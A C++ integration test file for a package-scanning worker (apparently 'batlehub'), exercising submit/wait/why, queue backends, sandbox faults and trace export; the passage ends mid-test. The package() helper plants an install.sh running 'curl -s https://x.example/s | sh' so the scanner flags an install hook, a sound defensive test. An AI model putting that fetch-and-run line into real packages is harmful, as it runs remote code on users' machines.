// `batlehub worker`, `submit`, `wait` and `why` as an operator runs them: real processes,
// real signals, the real bwrap runtime (postmortem's adapter over the stand-in
// fake_postmortem in its room), real HTTP scrapes, and the queue read back from the real
// database — SQLite under the state directory, and PostgreSQL on loopback
// (scripts/pg-peer.sh, started by the ctest fixture).
#include <sys/mount.h>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <cstdlib>
#include <random>
#include <set>
#include <sstream>

#include "adapters/queue/postgres_queue.h"
#include "adapters/queue/sqlite_queue.h"
#include "archive_builder.h"
#include "harness.h"
#include "rooms.h"
#include "worker_peer.h"
#include "storage_table.h"

namespace batlehub::testing {

using batlehub::testing::storage_table;
namespace {

enum class Backend { kSqlite, kPostgres };

std::string pg_dsn() {
  const char* d = std::getenv("BATLEHUB_TEST_PG_DSN");
  return d ? d : "";
}

// A registry name of this test's own: workers on the shared PostgreSQL lease only it.
std::string unique_registry() {
  std::random_device rd;
  return "t" + std::to_string(::getpid()) + "x" + std::to_string(rd() % 1000000);
}

class WorkerCli : public ::testing::TestWithParam<Backend> {
 protected:
  void SetUp() override {
    if (auto why = bwrap_unavailable(); !why.empty()) GTEST_SKIP() << why;
    if (GetParam() == Backend::kPostgres) {
      ASSERT_FALSE(pg_dsn().empty()) << "the pg fixture sets BATLEHUB_TEST_PG_DSN";
    }
    auto site = fake_postmortem_site(s_.root());
    ASSERT_TRUE(site) << "the postmortem room could not be built";
    rooms_ = site->rooms;
    tmp_ = site->tmp;
    registry_ = unique_registry();
  }

  // The worker's configuration; `extra_worker` lands in [worker].
  fs::path config(const std::string& extra_worker = "", const std::string& extra_sandbox = "",
                  const std::string& name = "config.toml") {
    fs::path p = s_.root() / name;
    std::string db = GetParam() == Backend::kPostgres ? "[database]\nurl = \"" + pg_dsn() + "\"\n" : "";
    Scratch::write(
        p, "[server]\nhost = \"127.0.0.1\"\nport = 0\n" + db + "[worker]\n" +
               (extra_worker.find("job_timeout_secs") == std::string::npos ? "job_timeout_secs = 20\n" : "") +
               "state_dir = \"" + (s_.root() / "state").string() + "\"\nregistries = [\"" + registry_ + "\"]\n" +
               extra_worker + "\n[worker.sandbox]\nrooms_dir = \"" + rooms_.string() +
               "\"\nprobe_canaries = [\"127.0.0.1:9\"]\n" + extra_sandbox +
               "\n[scanners.postmortem]\ntype = \"postmortem\"\ncommand = \"postmortem\"\ntimeline = false\n" +
               storage_table(extra_worker + extra_sandbox, (s_.root() / "cache").string()));
    return p;
  }

  std::vector<std::string> env() const { return {"PATH=/usr/bin:/bin", "TMPDIR=" + tmp_.string()}; }

  std::unique_ptr<Process> start_worker(const fs::path& cfg, const std::string& tag = "w") {
    return std::make_unique<Process>(std::vector<std::string>{BATLEHUB_BIN, "worker", "--config", cfg.string()}, env(),
                                     s_.root() / (tag + ".out"), s_.root() / (tag + ".err"));
  }

  Ran cli(const std::vector<std::string>& args) {
    fs::path out = s_.root() / "cli.out";
    std::vector<std::string> argv{BATLEHUB_BIN};
    argv.insert(argv.end(), args.begin(), args.end());
    std::string cmd;
    for (const auto& a : argv) cmd += "'" + a + "' ";
    cmd += "> " + out.string();
    std::string err;
    int rc = run_process({"/bin/sh", "-c", cmd}, s_.root(), env(), &err);
    return Ran{rc, Scratch::read(out), err};
  }

  // An npm tarball; `sleep` > 0 makes the stand-in scanner take that long.
  std::string package(const std::string& file, bool hook = false, int sleep = 0) {
    std::vector<TestEntry> e{file_entry("package/package.json", "{\"name\":\"x\"}")};
    if (hook) e.push_back(file_entry("package/install.sh", "curl -s https://x.example/s | sh\n"));
    if (sleep > 0) e.push_back(file_entry("package/fake-postmortem-sleep", std::to_string(sleep)));
    fs::path p = s_.root() / file;
    Scratch::write(p, make_tgz(e));
    return p.string();
  }

  static TestEntry file_entry(const std::string& n, const std::string& d) { return file(n, d); }

  std::string coord(const std::string& name, const std::string& version) const {
    return registry_ + ":" + name + "@" + version;
  }

  // The queue the worker uses, opened by the test itself.
  std::unique_ptr<core::ScanQueue> queue() {
    auto q = GetParam() == Backend::kPostgres
                 ? adapters::open_postgres_queue(pg_dsn())
                 : adapters::open_sqlite_queue((s_.root() / "state/queue.sqlite3").string());
    EXPECT_TRUE(q) << (q ? "" : q.error().message);
    return q ? std::move(*q) : nullptr;
  }

  Scratch s_;
  fs::path rooms_, tmp_;
  std::string registry_;
};

std::string backend_name(const ::testing::TestParamInfo<Backend>& i) {
  return i.param == Backend::kSqlite ? "sqlite" : "postgresql";
}

TEST_P(WorkerCli, a_submitted_package_is_scanned_by_the_worker_and_wait_and_why_show_its_verdict) {
  auto w = start_worker(config());
  ASSERT_TRUE(w->wait_for_log("INFO security worker: ready (")) << w->out() << w->err();
  ASSERT_TRUE(w->logged("runtime bwrap)"));

  Ran sub = cli({"submit", "--config", config().string(), "--registry", registry_, package("leftpad-1.3.0.tgz"),
                 package("evilpad-2.0.0.tgz", true)});
  ASSERT_EQ(sub.status, 0) << sub.out << sub.err;
  EXPECT_NE(sub.out.find("queued " + coord("leftpad", "1.3.0") + " (job "), std::string::npos) << sub.out;
  // Submitting again while it is open queues nothing new.
  // submit runs no sandbox, so it cannot read a package.json: a dashed npm file name, which
  // may be a scope's (@left/pad → left-pad-1.3.0.tgz), is refused rather than guessed.
  Ran dashed = cli({"submit", "--config", config().string(), "--registry", registry_, package("left-pad-1.3.0.tgz")});
  EXPECT_EQ(dashed.status, 4) << dashed.out << dashed.err;
  EXPECT_NE((dashed.out + dashed.err).find("cannot tell @scope/name from scope-name"), std::string::npos)
      << dashed.out << dashed.err;
  Ran again = cli({"submit", "--config", config().string(), "--registry", registry_, s_.root() / "leftpad-1.3.0.tgz"});
  EXPECT_NE(again.out.find("already queued " + coord("leftpad", "1.3.0")), std::string::npos) << again.out;

  Ran ok = cli(
      {"wait", "--config", config().string(), "--timeout", "60s", "--interval", "100ms", coord("leftpad", "1.3.0")});
  EXPECT_EQ(ok.status, 0) << ok.out << ok.err << w->err();
  EXPECT_EQ(ok.out, coord("leftpad", "1.3.0") + " is allowed (). Run `batlehub why " + coord("leftpad", "1.3.0") +
                        "` for details.\n");

  Ran why = cli({"why", "--config", config().string(), coord("leftpad", "1.3.0")});
  ASSERT_EQ(why.status, 0) << why.out << why.err;
  const std::string at = why.out.substr(why.out.find("evaluated  ") + 11, 20);
  EXPECT_EQ(why.out, coord("leftpad", "1.3.0") +
                         "\n"
                         "  state      allowed\n"
                         "  reasons    —\n"
                         "  policy     " +
                         registry_ +
                         "/default\n"
                         "  evaluated  " +
                         at +
                         "\n"
                         "  scanned    " +
                         at +
                         "\n"
                         "  scanners   postmortem\n"
                         "  findings   none\n"
                         "Served.\n");

  // The install hook: warned by default; `wait` says servable (warned is served).
  Ran evil = cli(
      {"wait", "--config", config().string(), "--timeout", "60s", "--interval", "100ms", coord("evilpad", "2.0.0")});
  EXPECT_EQ(evil.status, 0) << evil.out;
  EXPECT_NE(evil.out.find("is warned (INSTALL_HOOK)"), std::string::npos) << evil.out;
  Ran evil_why = cli({"why", "--config", config().string(), "--json", coord("evilpad", "2.0.0")});
  ASSERT_EQ(evil_why.status, 0);
  auto j = nlohmann::json::parse(evil_why.out);
  EXPECT_EQ(j["state"], "warned");
  EXPECT_EQ(j["findings"][0]["code"], "INSTALL_HOOK");
  EXPECT_EQ(j["findings"][0]["scanner"], "postmortem");
  EXPECT_EQ(j["scanners_done"], nlohmann::json::array({"postmortem"}));

  // An unknown coordinate: waiting cannot help.
  Ran none = cli({"wait", "--config", config().string(), "--interval", "100ms", coord("nothing", "1.0.0")});
  EXPECT_EQ(none.status, 1) << none.out;
  Ran none_why = cli({"why", "--config", config().string(), coord("nothing", "1.0.0")});
  EXPECT_EQ(none_why.status, 1) << none_why.out;

  // Recorded once each, from the database.
  auto q = queue();
  ASSERT_TRUE(q);
  auto jobs = q->jobs(registry_, "leftpad", "1.3.0");
  ASSERT_TRUE(jobs);
  ASSERT_EQ(jobs->size(), 1u);
  EXPECT_TRUE((*jobs)[0].completed_at.has_value());
  EXPECT_EQ((*jobs)[0].attempts, 1);

  // /metrics on a real scrape: ready, the runs, the verdicts.
  std::uint16_t port = listening_port(*w);
  ASSERT_NE(port, 0) << w->err();
  std::string scrape = http_get(port, "/metrics");
  EXPECT_EQ(series(scrape, "batlehub_sandbox_ready{runtime=\"bwrap\"}"), 1.0) << scrape;
  EXPECT_EQ(series(scrape, "batlehub_sandbox_runs_total{outcome=\"ok\",runtime=\"bwrap\",scanner=\"postmortem\"}"), 2.0)
      << scrape;
  EXPECT_EQ(series(scrape,
                   "batlehub_verdicts_total{registry=\"" + registry_ + "\",state=\"allowed\",trigger=\"first_seen\"}"),
            1.0);
  // Both runs in RFC 0022 §6.6's three phases.
  for (const char* phase : {"start", "run", "collect"}) {
    EXPECT_EQ(
        series(scrape, std::string("batlehub_sandbox_run_seconds_count{phase=\"") + phase + "\",runtime=\"bwrap\"}"),
        2.0)
        << phase << "\n"
        << scrape;
  }
  // The sweep at start found nothing, and says so: the series is there at 0, not absent.
  EXPECT_EQ(series(scrape, "batlehub_sandbox_orphans_swept_total{kind=\"run_dir\",runtime=\"bwrap\"}"), 0.0) << scrape;
  EXPECT_NE(http_get(port, "/livez").find("200 OK"), std::string::npos);
  // Each run and each job left a span line.
  EXPECT_TRUE(
      w->logged("INFO span: run job=" + (*jobs)[0].id + " scanner=postmortem attempt=1 runtime=bwrap outcome=ok"))
      << w->err();
  // …naming where it ran: under bwrap, its run directory.
  EXPECT_TRUE(w->logged(" sandbox=" + tmp_.string() + "/batlehub-run-" + std::to_string(w->pid()) + "-postmortem-"))
      << w->err();
  EXPECT_TRUE(w->logged("INFO span: job job=" + (*jobs)[0].id + " coordinate=" + coord("leftpad", "1.3.0")));

  w->signal(SIGTERM);
  EXPECT_EQ(w->wait_exit(30s), 0) << w->err();
  EXPECT_TRUE(w->logged("stopped: every running scan finished")) << w->err();
}

// A loopback port the kernel chose and nothing listens on now: bound, read, closed. 0 when
// the kernel gave none.
std::uint16_t unused_loopback_port() {
  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  socklen_t len = sizeof a;
  std::uint16_t port = 0;
  if (fd >= 0 && ::bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0 &&
      ::getsockname(fd, reinterpret_cast<sockaddr*>(&a), &len) == 0) {
    port = ntohs(a.sin_port);
  }
  if (fd >= 0) ::close(fd);
  return port;
}

// `at` replaced by a 1 MiB tmpfs (root only), unmounted when this goes; fill() leaves it no
// room, make_room() gives it back.
class SmallTmpfs {
 public:
  SmallTmpfs(fs::path at, const char* mode) : at_(std::move(at)) {
    const std::string options = std::string("size=1m,mode=") + mode;
    mounted_ = ::mount("tmpfs", at_.c_str(), "tmpfs", MS_NOSUID | MS_NODEV, options.c_str()) == 0;
    if (!mounted_) error_ = std::strerror(errno);
  }
  ~SmallTmpfs() {
    if (mounted_) ::umount2(at_.c_str(), MNT_DETACH);
  }
  SmallTmpfs(const SmallTmpfs&) = delete;
  SmallTmpfs& operator=(const SmallTmpfs&) = delete;
  bool mounted() const { return mounted_; }
  const std::string& error() const { return error_; }
  void fill() const {
    std::ofstream f(at_ / "filler", std::ios::binary);
    const std::string chunk(16 * 1024, 'x');
    while (f.write(chunk.data(), static_cast<std::streamsize>(chunk.size()))) {
    }
  }
  void make_room() const { fs::remove(at_ / "filler"); }

 private:
  fs::path at_;
  bool mounted_ = false;
  std::string error_;
};

// Issue 32's fault: the filesystem under the run directories fills up mid-service. The run
// that meets it is a scanner error that names where it could not write, nothing of it is
// left there, the job ends with one verdict, and the next job, once there is room again,
// is scanned as usual: the worker never stopped leasing.
TEST_P(WorkerCli, a_full_run_directory_filesystem_is_a_scanner_error_naming_it_and_the_worker_keeps_leasing) {
  if (::geteuid() != 0) GTEST_SKIP() << "mounting a small tmpfs under the run directories needs root";
  auto w = start_worker(config());
  ASSERT_TRUE(w->wait_for_log("INFO security worker: ready (")) << w->err();
  // The run directories' filesystem (TMPDIR), replaced now by one of 1 MiB, then filled.
  SmallTmpfs runs(tmp_, "1777");
  ASSERT_TRUE(runs.mounted()) << runs.error();
  runs.fill();
  Ran sub = cli({"submit", "--config", config().string(), "--registry", registry_, package("leftpad-1.3.0.tgz")});
  ASSERT_EQ(sub.status, 0) << sub.out << sub.err;
  Ran full = cli(
      {"wait", "--config", config().string(), "--timeout", "60s", "--interval", "100ms", coord("leftpad", "1.3.0")});
  EXPECT_EQ(full.status, 1) << full.out << full.err << w->err();
  EXPECT_EQ(full.out, coord("leftpad", "1.3.0") + " is quarantined (SCANNER_ERROR). Run `batlehub why " +
                          coord("leftpad", "1.3.0") + "` for details.\n");
  // The finding says where the write failed (the run directory on the full filesystem), why,
  // and what was being copied there.
  Ran why = cli({"why", "--config", config().string(), "--json", coord("leftpad", "1.3.0")});
  ASSERT_EQ(why.status, 0) << why.out << why.err;
  auto j = nlohmann::json::parse(why.out);
  ASSERT_EQ(j["findings"].size(), 1u) << why.out;
  EXPECT_EQ(j["findings"][0]["code"], "SCANNER_ERROR");
  const std::string summary = j["findings"][0]["summary"];
  const std::string run_dir = tmp_.string() + "/batlehub-run-" + std::to_string(w->pid()) + "-postmortem-";
  EXPECT_EQ(summary.rfind("writing " + run_dir, 0), 0u) << summary;
  EXPECT_NE(summary.find("/.batlehub-in/0: No space left on device (copying " + (s_.root() / "state/spool").string()),
            std::string::npos)
      << summary;
  EXPECT_TRUE(w->logged("WARN scan: " + coord("leftpad", "1.3.0") + ": postmortem failed: writing " + run_dir))
      << w->err();
  // Nothing of the run is left on the full filesystem: only the filler.
  std::vector<std::string> left;
  for (const auto& e : fs::directory_iterator(tmp_)) left.push_back(e.path().filename().string());
  EXPECT_EQ(left, (std::vector<std::string>{"filler"}));

  // Room again: the next job is scanned as any other.
  runs.make_room();
  Ran next = cli({"submit", "--config", config().string(), "--registry", registry_, package("rightpad-2.0.0.tgz")});
  ASSERT_EQ(next.status, 0) << next.out << next.err;
  Ran ok = cli(
      {"wait", "--config", config().string(), "--timeout", "60s", "--interval", "100ms", coord("rightpad", "2.0.0")});
  EXPECT_EQ(ok.status, 0) << ok.out << ok.err << w->err();
  EXPECT_EQ(ok.out, coord("rightpad", "2.0.0") + " is allowed (). Run `batlehub why " + coord("rightpad", "2.0.0") +
                        "` for details.\n");
  w->signal(SIGTERM);
  EXPECT_EQ(w->wait_exit(30s), 0) << w->err();
}

// Issue 32's fault: state_dir (the SQLite queue) full when a package is submitted. The
// submit is refused with the reason, nothing is queued, and once there is room the same
// submit queues it: the queue was not damaged.
// On SQLite alone: with PostgreSQL the queue is not in state_dir.
class WorkerCliSqlite : public WorkerCli {};

TEST_P(WorkerCliSqlite, a_full_state_dir_refuses_a_submit_with_the_reason_and_queues_nothing) {
  if (::geteuid() != 0) GTEST_SKIP() << "mounting a small tmpfs as state_dir needs root";
  const fs::path state = s_.root() / "state";
  fs::create_directories(state);
  SmallTmpfs small(state, "0755");
  ASSERT_TRUE(small.mounted()) << small.error();
  Ran first = cli({"submit", "--config", config().string(), "--registry", registry_, package("leftpad-1.3.0.tgz")});
  ASSERT_EQ(first.status, 0) << first.out << first.err;
  small.fill();
  auto files_in = [](const fs::path& dir) {
    std::size_t n = 0;
    for (const auto& e : fs::recursive_directory_iterator(dir)) n += e.is_regular_file() ? 1 : 0;
    return n;
  };
  const std::size_t cached = files_in(s_.root() / "cache");
  Ran full = cli({"submit", "--config", config().string(), "--registry", registry_, package("rightpad-2.0.0.tgz")});
  // Refused before anything is stored: the queue's own file says where, SQLite what, the
  // system why.
  EXPECT_EQ(full.status, 2) << full.out << full.err;
  const std::string said = full.out + full.err;
  EXPECT_EQ(said.rfind("sqlite " + (state / "queue.sqlite3").string() + ": ", 0), 0u) << said;
  EXPECT_NE(said.find("(No space left on device)"), std::string::npos) << said;
  EXPECT_EQ(files_in(s_.root() / "cache"), cached);
  small.make_room();
  auto q = queue();
  ASSERT_TRUE(q);
  auto none = q->jobs(registry_, "rightpad", "2.0.0");
  ASSERT_TRUE(none);
  EXPECT_TRUE(none->empty());
  Ran again = cli({"submit", "--config", config().string(), "--registry", registry_, s_.root() / "rightpad-2.0.0.tgz"});
  EXPECT_EQ(again.status, 0) << again.out << again.err;
  EXPECT_NE(again.out.find("queued " + coord("rightpad", "2.0.0") + " (job "), std::string::npos) << again.out;
}

// RFC 0022 §6.6's spans over OTLP/HTTP to a real OpenTelemetry Collector (tests/peers/otelcol,
// built by scripts/install-otelcol.sh): a job is a trace, its span the root, each run a child
// naming the runtime, the scanner, the outcome and the run directory it ran in; the trace id
// the collector prints is the one in the worker's log lines.
// Issue 32's fault: the container engine's daemon restarted while a job's scanner runs in
// its container. The run fails in the sandbox's own machinery, not the package: the job goes
// back for another attempt (unrecorded), the worker proves its walls again at once, and the
// second attempt, on the daemon once it is back, records the one verdict. No container and no
// run directory is left. The daemon is the test's own (scripts/docker-peer.sh in a directory
// of its own): restarting it reaches no other test. podman has no daemon to restart.
class WorkerCliDocker : public WorkerCli {
 protected:
  void SetUp() override {
    WorkerCli::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    if (!BATLEHUB_AGENT_STATIC) GTEST_SKIP() << "an image FROM scratch needs the static agent (the release build)";
    if (::system("command -v dockerd >/dev/null") != 0)
      GTEST_SKIP() << "no dockerd (scripts/install-deps.sh installs it)";
    char tmpl[] = "/tmp/bh-dockerd-XXXXXX";  // short: the daemon's sockets live under it
    ASSERT_NE(::mkdtemp(tmpl), nullptr);
    daemon_dir_ = tmpl;
    ASSERT_EQ(peer("start"), 0) << Scratch::read(daemon_dir_ / "peer.err");
    host_ = "unix://" + daemon_dir_.string() + "/docker.sock";
    image_ = "localhost/batlehub-test-postmortem:" + std::to_string(::getpid());
    const std::string build = "python3 " + std::string(BATLEHUB_SOURCE_DIR) + "/scripts/build-image.py --room " +
                              (rooms_ / "postmortem").string() + " --engine docker --docker-host " + host_ + " --tag " +
                              image_ + " --registry " + BATLEHUB_TEST_REGISTRY + " >/dev/null";
    ASSERT_EQ(std::system(build.c_str()), 0) << build;
  }
  void TearDown() override {
    if (!daemon_dir_.empty()) {
      peer("stop");
      std::error_code ec;
      fs::remove_all(daemon_dir_, ec);
    }
  }
  int peer(const std::string& verb) const {
    return std::system((std::string(BATLEHUB_SOURCE_DIR) + "/scripts/docker-peer.sh " + verb + " " +
                        daemon_dir_.string() + " >/dev/null 2>" + (daemon_dir_ / "peer.err").string())
                           .c_str());
  }
  std::string docker(const std::string& args) const {
    std::string out;
    FILE* p = ::popen(("docker -H " + host_ + " " + args + " 2>/dev/null").c_str(), "r");
    if (p == nullptr) return "(popen failed)";
    char buf[4096];
    while (std::size_t n = std::fread(buf, 1, sizeof buf, p)) out.append(buf, n);
    ::pclose(p);
    return out;
  }
  // The one running container's scanner is past its bundle fetch: `postmortem scan` runs in
  // the container's cgroup, whose path holds the container's id.
  bool scanner_running() const {
    std::string id = docker("ps -q --no-trunc");
    while (!id.empty() && id.back() == '\n') id.pop_back();
    if (id.empty() || id.find('\n') != std::string::npos) return false;
    for (const auto& e : fs::directory_iterator("/proc")) {
      const std::string pid = e.path().filename().string();
      if (pid.find_first_not_of("0123456789") != std::string::npos) continue;
      if (slurp(e.path() / "cmdline").find(std::string("postmortem\0scan", 15)) == std::string::npos) continue;
      if (slurp(e.path() / "cgroup").find(id) != std::string::npos) return true;
    }
    return false;
  }

  fs::path daemon_dir_;
  std::string host_, image_;
};

TEST_P(WorkerCliDocker, a_daemon_restarted_mid_run_gives_the_job_another_attempt_which_records_the_one_verdict) {
  const fs::path cfg = config("max_attempts = 3\njob_timeout_secs = 60\n",
                              "runtime = \"oci\"\nstart_timeout_secs = 60\n"
                              "[worker.sandbox.oci]\nengine = \"docker\"\nimage = \"" +
                                  image_ + "\"\n");
  auto env = this->env();
  env.push_back("DOCKER_HOST=" + host_);
  Process w({BATLEHUB_BIN, "worker", "--config", cfg.string()}, env, s_.root() / "w.out", s_.root() / "w.err");
  ASSERT_TRUE(w.wait_for_log("INFO security worker: ready (")) << w.err();
  // Longer than dockerd's 10 s stop timeout: the daemon going down ends the container, it
  // does not wait it out.
  Ran sub = cli({"submit", "--config", cfg.string(), "--registry", registry_, package("slowpad-1.0.0.tgz", false, 15)});
  ASSERT_EQ(sub.status, 0) << sub.out << sub.err;
  ASSERT_TRUE(eventually([&] { return scanner_running(); }, 60s)) << w.err();
  ASSERT_EQ(peer("restart"), 0) << Scratch::read(daemon_dir_ / "peer.err");

  Ran done =
      cli({"wait", "--config", cfg.string(), "--timeout", "120s", "--interval", "200ms", coord("slowpad", "1.0.0")});
  EXPECT_EQ(done.status, 0) << done.out << done.err << w.err();
  EXPECT_EQ(done.out, coord("slowpad", "1.0.0") + " is allowed (). Run `batlehub why " + coord("slowpad", "1.0.0") +
                          "` for details.\n");
  EXPECT_TRUE(
      w.logged("released unrecorded for another attempt: the sandbox of postmortem failed under it: the "
               "container never answered"))
      << w.err();
  EXPECT_TRUE(w.logged("re-probing now: a run failed in the sandbox's own machinery")) << w.err();
  auto q = queue();
  ASSERT_TRUE(q);
  auto jobs = q->jobs(registry_, "slowpad", "1.0.0");
  ASSERT_TRUE(jobs);
  ASSERT_EQ(jobs->size(), 1u);
  EXPECT_EQ((*jobs)[0].attempts, 2) << "the first attempt was cut off, the second recorded";
  EXPECT_EQ(docker("ps -aq"), "") << "a container was left";
  std::vector<std::string> left;
  for (const auto& e : fs::directory_iterator(tmp_)) left.push_back(e.path().filename().string());
  EXPECT_TRUE(left.empty()) << left.front();
  w.signal(SIGTERM);
  EXPECT_EQ(w.wait_exit(60s), 0) << w.err();
}

INSTANTIATE_TEST_SUITE_P(Sqlite, WorkerCliDocker, ::testing::Values(Backend::kSqlite), backend_name);

TEST_P(WorkerCli, spans_reach_an_opentelemetry_collector_as_a_job_trace_with_its_runs) {
  if (!fs::exists(BATLEHUB_OTELCOL_BIN)) {
    GTEST_SKIP() << "no OpenTelemetry Collector at " << BATLEHUB_OTELCOL_BIN
                 << ": scripts/install-otelcol.sh builds it (make test's peers step runs it)";
  }
  // A port of loopback's, free when asked; the collector binds it at once.
  const std::uint16_t port = unused_loopback_port();
  ASSERT_NE(port, 0);
  const std::string endpoint = "127.0.0.1:" + std::to_string(port);
  const fs::path yaml = s_.root() / "otelcol.yaml";
  // OTLP/HTTP only, on loopback; the debug exporter prints every span; the collector's own
  // telemetry opens no listener of its own.
  Scratch::write(
      yaml, "receivers:\n  otlp:\n    protocols:\n      http:\n        endpoint: " + endpoint +
                "\nexporters:\n  debug:\n    verbosity: detailed\nservice:\n  telemetry:\n    metrics:\n"
                "      level: none\n  pipelines:\n    traces:\n      receivers: [otlp]\n      exporters: [debug]\n");
  Process collector({BATLEHUB_OTELCOL_BIN, "--config=file:" + yaml.string()}, {"PATH=/usr/bin:/bin"},
                    s_.root() / "otelcol.out", s_.root() / "otelcol.err");
  ASSERT_TRUE(collector.wait_for_log("Everything is ready.")) << collector.err();

  std::vector<std::string> traced = env();
  traced.push_back("OTEL_EXPORTER_OTLP_ENDPOINT=http://" + endpoint);
  Process w({BATLEHUB_BIN, "worker", "--config", config().string()}, traced, s_.root() / "w.out", s_.root() / "w.err");
  ASSERT_TRUE(w.wait_for_log("INFO security worker: ready (")) << w.err();
  EXPECT_TRUE(w.logged("spans go to http://" + endpoint + "/v1/traces over OTLP/HTTP (service.name batlehub-worker)"))
      << w.err();
  Ran sub = cli({"submit", "--config", config().string(), "--registry", registry_, package("leftpad-1.3.0.tgz")});
  ASSERT_EQ(sub.status, 0) << sub.out << sub.err;
  Ran ok = cli(
      {"wait", "--config", config().string(), "--timeout", "60s", "--interval", "100ms", coord("leftpad", "1.3.0")});
  ASSERT_EQ(ok.status, 0) << ok.out << ok.err << w.err();
  // SIGTERM sends what is queued before the worker exits.
  w.signal(SIGTERM);
  ASSERT_EQ(w.wait_exit(30s), 0) << w.err();

  std::smatch job_line, run_line;
  const std::string log = w.err();
  ASSERT_TRUE(std::regex_search(log, job_line,
                                std::regex("INFO span: job job=(\\S+) coordinate=\\S+ attempt=1 runtime=bwrap "
                                           "outcome=allowed seconds=\\S+ trace_id=([0-9a-f]{32})")))
      << log;
  const std::string trace = job_line[2];
  ASSERT_TRUE(std::regex_search(log, run_line,
                                std::regex("INFO span: run job=" + std::string(job_line[1]) +
                                           " scanner=postmortem attempt=1 runtime=bwrap outcome=ok .* sandbox=(\\S+) "
                                           "trace_id=" +
                                           trace)))
      << log;
  const std::string sandbox = run_line[1];

  // The collector's debug exporter prints each span as a block: "Span #N", its ids, its
  // name, its status, its attributes.
  ASSERT_TRUE(eventually([&] { return collector.logged("Trace ID       : " + trace); }, 10s)) << collector.err();
  const std::string printed = collector.err();
  auto blocks_named = [&](const std::string& name) {
    std::vector<std::string> out;
    std::size_t at = 0;
    while ((at = printed.find("Span #", at)) != std::string::npos) {
      std::size_t end = printed.find("Span #", at + 6);
      std::string block = printed.substr(at, end == std::string::npos ? std::string::npos : end - at);
      if (block.find("Trace ID       : " + trace) != std::string::npos &&
          block.find("Name           : " + name + "\n") != std::string::npos) {
        out.push_back(block);
      }
      at += 6;
    }
    return out;
  };
  const auto jobs = blocks_named("job");
  ASSERT_EQ(jobs.size(), 1u) << printed;
  EXPECT_NE(jobs[0].find("Parent ID      : \n"), std::string::npos) << jobs[0];  // the trace's root
  EXPECT_NE(jobs[0].find("-> batlehub.outcome: Str(allowed)"), std::string::npos) << jobs[0];
  EXPECT_NE(jobs[0].find("-> batlehub.coordinate: Str(" + coord("leftpad", "1.3.0") + ")"), std::string::npos)
      << jobs[0];
  std::smatch id;
  ASSERT_TRUE(std::regex_search(jobs[0], id, std::regex("\n    ID             : ([0-9a-f]{16})\n"))) << jobs[0];
  const auto runs = blocks_named("run");
  ASSERT_FALSE(runs.empty()) << printed;
  for (const std::string& run : runs) {
    EXPECT_NE(run.find("Parent ID      : " + std::string(id[1]) + "\n"), std::string::npos) << run;
    EXPECT_NE(run.find("Status code    : Ok"), std::string::npos) << run;
    EXPECT_NE(run.find("-> batlehub.runtime: Str(bwrap)"), std::string::npos) << run;
    EXPECT_NE(run.find("-> batlehub.scanner: Str(postmortem)"), std::string::npos) << run;
    EXPECT_NE(run.find("-> batlehub.outcome: Str(ok)"), std::string::npos) << run;
    EXPECT_NE(run.find("-> batlehub.phase.run_seconds: Double("), std::string::npos) << run;
  }
  // The run the log line names is among them, by the run directory it ran in.
  EXPECT_TRUE(std::any_of(runs.begin(), runs.end(), [&](const std::string& run) {
    return run.find("-> batlehub.sandbox: Str(" + sandbox + ")") != std::string::npos;
  })) << printed;
  EXPECT_FALSE(w.logged("not exported")) << w.err();
  collector.signal(SIGTERM);
  EXPECT_EQ(collector.wait_exit(10s), 0) << collector.err();
}

// A collector that is not there costs one warning, never a scan, and never the exit: the
// spans are dropped, and said.
TEST_P(WorkerCli, spans_to_a_collector_that_is_not_there_cost_a_warning_and_never_the_scan) {
  const std::uint16_t port = unused_loopback_port();  // nothing listens on it
  ASSERT_NE(port, 0);
  std::vector<std::string> traced = env();
  traced.push_back("OTEL_EXPORTER_OTLP_TRACES_ENDPOINT=http://127.0.0.1:" + std::to_string(port) + "/v1/traces");
  Process w({BATLEHUB_BIN, "worker", "--config", config().string()}, traced, s_.root() / "w.out", s_.root() / "w.err");
  ASSERT_TRUE(w.wait_for_log("INFO security worker: ready (")) << w.err();
  Ran sub = cli({"submit", "--config", config().string(), "--registry", registry_, package("leftpad-1.3.0.tgz")});
  ASSERT_EQ(sub.status, 0) << sub.out << sub.err;
  Ran ok = cli(
      {"wait", "--config", config().string(), "--timeout", "60s", "--interval", "100ms", coord("leftpad", "1.3.0")});
  EXPECT_EQ(ok.status, 0) << ok.out << ok.err << w.err();
  ASSERT_TRUE(w.wait_for_log("span(s) not exported (logged once until an export succeeds): POST http://127.0.0.1:" +
                             std::to_string(port) + "/v1/traces"))
      << w.err();
  w.signal(SIGTERM);
  EXPECT_EQ(w.wait_exit(30s), 0) << w.err();
  const std::string log = w.err();
  std::size_t warnings = 0;
  for (std::size_t at = 0; (at = log.find("not exported (logged once", at)) != std::string::npos; ++at) ++warnings;
  EXPECT_EQ(warnings, 1u) << log;
}

// upstream-today.md §7: upstream's image and chart start the worker as `batlehub --config
// /etc/batlehub/config.toml --roles worker`; here that is `batlehub worker`, the file found
// the same way (--config, else BATLEHUB_CONFIG), and a start that asks for the proxy is
// refused before anything opens.
TEST_P(WorkerCli, started_as_upstream_starts_it_the_worker_scans_and_a_proxy_role_is_refused) {
  const fs::path cfg = config();
  std::vector<std::string> with_file = env();
  with_file.push_back("BATLEHUB_CONFIG=" + cfg.string());
  Process w({BATLEHUB_BIN, "--roles", "worker"}, with_file, s_.root() / "roles.out", s_.root() / "roles.err");
  ASSERT_TRUE(w.wait_for_log("INFO security worker: ready (")) << w.out() << w.err();
  EXPECT_TRUE(w.logged("INFO security worker: storage one backend: filesystem " + (s_.root() / "cache").string()))
      << w.err();
  Ran sub = cli({"submit", "--config", cfg.string(), "--registry", registry_, package("leftpad-1.3.0.tgz")});
  ASSERT_EQ(sub.status, 0) << sub.out << sub.err;
  Ran ok = cli({"wait", "--config", cfg.string(), "--timeout", "60s", "--interval", "100ms", coord("leftpad", "1.3.0")});
  EXPECT_EQ(ok.status, 0) << ok.out << ok.err << w.err();
  EXPECT_NE(ok.out.find("is allowed"), std::string::npos) << ok.out;
  w.signal(SIGTERM);
  EXPECT_EQ(w.wait_exit(30s), 0) << w.err();

  // [server] roles absent is upstream's default, proxy and worker: this build has no proxy.
  Ran both = cli({"--config", cfg.string()});
